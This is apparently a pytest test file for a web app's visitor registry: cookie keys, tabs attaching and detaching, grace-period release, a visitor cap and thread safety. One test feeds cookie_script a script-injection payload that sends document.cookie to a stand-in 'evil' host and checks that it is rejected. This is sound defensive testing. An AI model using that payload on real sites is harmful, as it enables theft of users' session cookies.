"""The visitor registry: keys, tabs attaching and detaching, the grace period, the bound, release once."""

import subprocess
import sys
import threading
from pathlib import Path

import pytest

from mlc import visitors
from mlc.visitors import FakeClock, FakeJobs, SessionTab, Visitors, VisitorTab


def registry(grace=60, **kwargs):
    """A registry on a fake clock, releasing in the calling thread; returns (visitors, clock, made jobs)."""
    made: list[FakeJobs] = []

    def factory():
        made.append(FakeJobs())
        return made[-1]

    clock = FakeClock(1000.0)
    return Visitors(factory, grace_seconds=grace, clock=clock, background=False, **kwargs), clock, made


# ---------------------------------------------------------------- keys
def test_new_keys_have_the_shape_and_differ():
    keys = {visitors.new_key() for _ in range(200)}
    assert len(keys) == 200
    assert all(visitors.valid_key(k) == k and len(k) == 43 for k in keys)


@pytest.mark.parametrize(
    "raw",
    [None, "", "a" * 42, "a" * 44, "a" * 42 + "=", "a" * 42 + ";", "a" * 42 + " ", "ä" * 43, 12345, b"a" * 43],
)
def test_a_key_of_another_shape_counts_as_none(raw):
    assert visitors.valid_key(raw) is None
    assert visitors.key_from({visitors.COOKIE: raw} if isinstance(raw, str) else {}) is None


def test_the_key_comes_from_its_cookie_only():
    key = visitors.new_key()
    assert visitors.key_from({visitors.COOKIE: key, "other": "x"}) == key
    assert visitors.key_from({"mlc_visitor_x": key}) is None


def test_the_cookie_script_is_same_site_site_wide_and_expires():
    key = visitors.new_key()
    script = visitors.cookie_script(key, max_age=3600)
    assert script.startswith(f"<script {visitors.SCRIPT_MARK}>") and script.endswith("</script>")
    assert f"{visitors.COOKIE}={key}; Path=/; Max-Age=3600; SameSite=Strict" in script
    assert "'; Secure'" in script  # added when the page is served over https


@pytest.mark.parametrize("bad", ["x'; fetch('//evil/?'+document.cookie); '", "a" * 42, ""])
def test_the_cookie_script_refuses_anything_but_a_key(bad):
    with pytest.raises(ValueError, match="43 URL-safe characters"):
        visitors.cookie_script(bad)


def test_the_cookie_script_refuses_a_bad_max_age():
    with pytest.raises(ValueError, match="max_age"):
        visitors.cookie_script(visitors.new_key(), max_age=0)


# ---------------------------------------------------------------- tabs and the grace period
def test_tabs_of_one_visitor_share_their_jobs_and_visitors_stay_apart():
    reg, _, made = registry()
    a, b = visitors.new_key(), visitors.new_key()
    first = reg.attach(a, "tab-1")
    assert reg.attach(a, "tab-2") is first
    assert reg.attach(b, "tab-3") is not first
    assert len(made) == 2 and reg.tabs(a) == 2 and reg.tabs(b) == 1


def test_attaching_a_session_again_counts_it_once():
    reg, _, _ = registry()
    key = visitors.new_key()
    for _ in range(3):  # every rerun of a session attaches
        reg.attach(key, "tab-1")
    assert reg.tabs(key) == 1
    reg.detach(key, "tab-1")
    assert reg.tabs(key) == 0


def test_jobs_outlive_a_closed_tab_while_another_is_open():
    reg, clock, made = registry(grace=60)
    key = visitors.new_key()
    reg.attach(key, "tab-1")
    reg.attach(key, "tab-2")
    reg.detach(key, "tab-1")
    clock.advance(10_000)
    assert reg.sweep() == 0
    assert made[0].close_calls == 0 and reg.tabs(key) == 1


def test_the_last_tab_leaving_releases_after_the_grace_period_exactly_once():
    reg, clock, made = registry(grace=60)
    key = visitors.new_key()
    reg.attach(key, "tab-1")
    reg.detach(key, "tab-1")
    clock.advance(59.9)
    assert reg.sweep() == 0 and made[0].close_calls == 0 and len(reg) == 1
    clock.advance(0.1)
    assert reg.sweep() == 1 and made[0].close_calls == 1 and len(reg) == 0
    clock.advance(1000)
    assert reg.sweep() == 0 and made[0].close_calls == 1
    reg.detach(key, "tab-1")  # a late detach of a released visitor is ignored
    reg.close()
    assert made[0].close_calls == 1


def test_a_reload_within_the_grace_period_finds_the_same_jobs():
    reg, clock, made = registry(grace=60)
    key = visitors.new_key()
    jobs = reg.attach(key, "tab-1")
    reg.detach(key, "tab-1")
    clock.advance(50)
    assert reg.attach(key, "tab-2") is jobs  # the reloaded tab is a new session
    clock.advance(50)  # the old idle start no longer counts
    assert reg.sweep() == 0
    reg.detach(key, "tab-2")
    clock.advance(59)
    assert reg.sweep() == 0
    clock.advance(1)
    assert reg.sweep() == 1
    assert len(made) == 1 and made[0].close_calls == 1


def test_after_the_release_the_key_starts_afresh():
    reg, clock, made = registry(grace=5)
    key = visitors.new_key()
    old = reg.attach(key, "tab-1")
    reg.detach(key, "tab-1")
    clock.advance(5)
    reg.sweep()
    new = reg.attach(key, "tab-2")
    assert new is not old and old.closed and not new.closed


def test_grace_zero_releases_as_the_last_tab_leaves():
    reg, _, made = registry(grace=0)
    key = visitors.new_key()
    reg.attach(key, "tab-1")
    reg.attach(key, "tab-2")
    reg.detach(key, "tab-1")
    assert made[0].close_calls == 0
    reg.detach(key, "tab-2")
    assert made[0].close_calls == 1 and len(reg) == 0


def test_unknown_keys_and_sessions_are_ignored_on_detach():
    reg, _, made = registry(grace=0)
    key = visitors.new_key()
    reg.attach(key, "tab-1")
    reg.detach(visitors.new_key(), "tab-1")
    reg.detach(key, "tab-9")
    assert reg.tabs(key) == 1 and made[0].close_calls == 0


def test_attach_refuses_a_key_of_another_shape():
    reg, _, made = registry()
    with pytest.raises(ValueError, match="new_key"):
        reg.attach("guess", "tab-1")
    assert made == []


# ---------------------------------------------------------------- the bound
def test_past_the_bound_the_longest_idle_visitor_goes_first():
    reg, clock, made = registry(grace=3600, max_visitors=2)
    first, second, third = (visitors.new_key() for _ in range(3))
    reg.attach(first, "t1")
    reg.attach(second, "t2")
    reg.detach(first, "t1")
    clock.advance(1)
    reg.detach(second, "t2")
    reg.attach(third, "t3")  # a newcomer: the visitor idle the longest is released
    assert [j.close_calls for j in made] == [1, 0, 0]
    assert len(reg) == 2 and reg.tabs(third) == 1


def test_visitors_with_an_open_tab_are_never_released_for_room():
    reg, _, made = registry(grace=3600, max_visitors=2)
    keys = [visitors.new_key() for _ in range(4)]
    for n, key in enumerate(keys):
        reg.attach(key, f"tab-{n}")
    assert len(reg) == 4 and all(j.close_calls == 0 for j in made)
    reg.detach(keys[0], "tab-0")
    reg.attach(visitors.new_key(), "tab-new")  # only the idle one makes room
    assert [j.close_calls for j in made] == [1, 0, 0, 0, 0]


def test_a_flood_of_new_keys_holds_at_most_the_bound():
    reg, clock, made = registry(grace=3600, max_visitors=8)
    for n in range(100):
        key = visitors.new_key()
        reg.attach(key, f"tab-{n}")
        reg.detach(key, f"tab-{n}")  # each leaves at once (a script without cookies)
        clock.advance(1)
        assert len(reg) <= 8
    assert sum(j.close_calls for j in made) == 92 and all(j.close_calls <= 1 for j in made)


# ---------------------------------------------------------------- closing, threads, privacy
def test_close_releases_everyone_once_and_refuses_newcomers():
    reg, _, made = registry()
    keys = [visitors.new_key() for _ in range(3)]
    for key in keys:
        reg.attach(key, "tab")
    reg.detach(keys[0], "tab")
    reg.close()
    reg.close()
    assert [j.close_calls for j in made] == [1, 1, 1]
    with pytest.raises(RuntimeError, match="closed"):
        reg.attach(visitors.new_key(), "tab")


def test_two_tabs_of_a_new_visitor_arriving_at_once_get_one_jobs():
    """The jobs are made outside the lock: the one made second is closed, both tabs get the first."""
    key = visitors.new_key()
    made: list[FakeJobs] = []
    reg = None

    def factory():
        mine = FakeJobs()
        made.append(mine)
        if len(made) == 1:  # while the first is being made, the second tab attaches
            reg.attach(key, "tab-2")
        return mine

    reg = Visitors(factory, clock=FakeClock(), background=False)
    jobs = reg.attach(key, "tab-1")
    assert jobs is made[1] and reg.attach(key, "tab-2") is jobs
    assert made[0].close_calls == 1 and made[1].close_calls == 0 and reg.tabs(key) == 2


def test_many_threads_attaching_and_detaching_release_each_jobs_at_most_once():
    reg, _, made = registry(grace=0)
    keys = [visitors.new_key() for _ in range(4)]

    def visit(n):
        for i in range(200):
            key = keys[(n + i) % len(keys)]
            reg.attach(key, f"s{n}")
            reg.detach(key, f"s{n}")

    threads = [threading.Thread(target=visit, args=(n,)) for n in range(6)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert len(reg) == 0
    assert all(j.close_calls == 1 for j in made)


def test_the_background_sweeper_releases_when_the_grace_ends():
    released = threading.Event()

    class Jobs(FakeJobs):
        def close(self):
            super().close()
            released.set()

    made = []
    reg = Visitors(lambda: made.append(Jobs()) or made[-1], grace_seconds=0.05)
    key = visitors.new_key()
    reg.attach(key, "tab-1")
    reg.detach(key, "tab-1")
    assert released.wait(30), "the sweeper never released the idle visitor"
    assert made[0].close_calls == 1
    reg.close()


def test_keys_are_never_shown():
    reg, _, _ = registry()
    key = visitors.new_key()
    tab = VisitorTab(reg, key, "tab-1")
    assert key not in repr(reg) and key not in repr(tab) and key not in str(reg)


def test_a_tab_attaches_on_use_and_detaches_when_it_leaves():
    reg, clock, made = registry(grace=10)
    key = visitors.new_key()
    tab = VisitorTab(reg, key, "tab-1")
    assert reg.tabs(key) == 1 and tab.jobs is made[0]
    tab.leave()
    clock.advance(10)
    reg.sweep()
    assert made[0].closed
    assert tab.jobs is made[1]  # a tab used after its visitor was released gets fresh jobs, never closed ones


def test_a_session_without_a_key_keeps_its_own_jobs_until_it_ends():
    jobs = FakeJobs()
    tab = SessionTab(jobs)
    assert tab.jobs is jobs and not jobs.closed
    tab.leave()
    assert jobs.close_calls == 1


def test_settings_are_checked():
    with pytest.raises(ValueError, match="grace_seconds"):
        Visitors(FakeJobs, grace_seconds=-1)
    with pytest.raises(ValueError, match="max_visitors"):
        Visitors(FakeJobs, max_visitors=0)


def test_the_module_imports_without_tensorflow_keras_or_streamlit():
    code = "import sys, mlc.visitors; print(' '.join(sorted({m.split('.')[0] for m in sys.modules})))"
    root = Path(__file__).resolve().parents[1]
    out = subprocess.run([sys.executable, "-c", code], cwd=root, capture_output=True, text=True, check=True).stdout
    assert not set(out.split()) & {"tensorflow", "keras", "streamlit"}


def test_a_running_job_stops_after_the_job_grace_but_the_runs_stay_for_the_whole_grace():
    from mlc.visitors import FakeClock, FakeJobs, Visitors, new_key

    clock = FakeClock()
    visitors = Visitors(FakeJobs, grace_seconds=900, job_grace_seconds=60, clock=clock, background=False)
    key = new_key()
    jobs = visitors.attach(key, "tab")
    visitors.detach(key, "tab")
    clock.advance(59)
    assert visitors.sweep() == 0 and jobs.stop_calls == 0
    clock.advance(2)
    assert visitors.sweep() == 0 and jobs.stop_calls == 1 and not jobs.closed
    clock.advance(100)
    assert visitors.sweep() == 0 and jobs.stop_calls == 1  # stopped once, runs still held
    assert visitors.attach(key, "tab-2") is jobs
    visitors.detach(key, "tab-2")
    clock.advance(900)
    assert visitors.sweep() == 1 and jobs.closed


def test_a_reload_within_the_job_grace_does_not_stop_the_job():
    from mlc.visitors import FakeClock, FakeJobs, Visitors, new_key

    clock = FakeClock()
    visitors = Visitors(FakeJobs, grace_seconds=900, job_grace_seconds=60, clock=clock, background=False)
    key = new_key()
    jobs = visitors.attach(key, "tab")
    visitors.detach(key, "tab")
    clock.advance(5)
    visitors.attach(key, "tab-2")
    clock.advance(120)
    assert visitors.sweep() == 0 and jobs.stop_calls == 0
